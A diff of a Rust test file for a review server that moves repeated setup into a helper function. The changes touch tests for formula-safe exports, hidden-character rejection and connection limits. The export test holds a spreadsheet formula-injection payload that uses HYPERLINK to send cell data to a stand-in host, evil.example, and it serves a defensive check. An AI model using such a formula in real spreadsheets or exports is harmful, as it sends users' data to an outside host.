@@ -1098,11 +1098,7 @@ fn printed_token(server: &Server) -> String {
 
 #[test]
 fn exports_show_formulas_as_text() {
-    let run = reviewed_run();
-    let tmp = tempfile::tempdir().unwrap();
-    let db = tmp.path().join("review.sqlite");
-    let server = Server::start(run, &db, &[]);
-    let ids = candidate_ids(&server);
+    let (tmp, db, server, ids) = fresh_review(1);
     let note = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
     let (status, body) = post_json(
         &agent(),
@@ -1199,11 +1195,7 @@ fn candidate_ids_with(server: &Server, token: &str) -> Vec<String> {
 
 #[test]
 fn names_and_notes_hold_no_hidden_characters() {
-    let run = reviewed_run();
-    let tmp = tempfile::tempdir().unwrap();
-    let db = tmp.path().join("review.sqlite");
-    let server = Server::start(run, &db, &[]);
-    let ids = candidate_ids(&server);
+    let (_tmp, db, server, ids) = fresh_review(1);
     let url = decisions_url(&server.base, &ids[0]);
     for (reviewer, note, says) in [
         ("\u{202E}\u{200B}", "", "reviewer name cannot hold"),
@@ -1271,9 +1263,7 @@ fn a_crop_linked_out_of_the_run_is_not_served() {
 #[test]
 fn half_open_idle_and_surplus_connections_are_bounded() {
     use std::io::{Read, Write};
-    let run = reviewed_run();
-    let tmp = tempfile::tempdir().unwrap();
-    let server = Server::start(run, &tmp.path().join("review.sqlite"), &[]);
+    let (_tmp, _db, server, _) = fresh_review(0);
     let address = server.base.strip_prefix("http://").unwrap().to_string();
     let closed_within = |mut stream: std::net::TcpStream, limit: Duration| {
         let start = Instant::now();
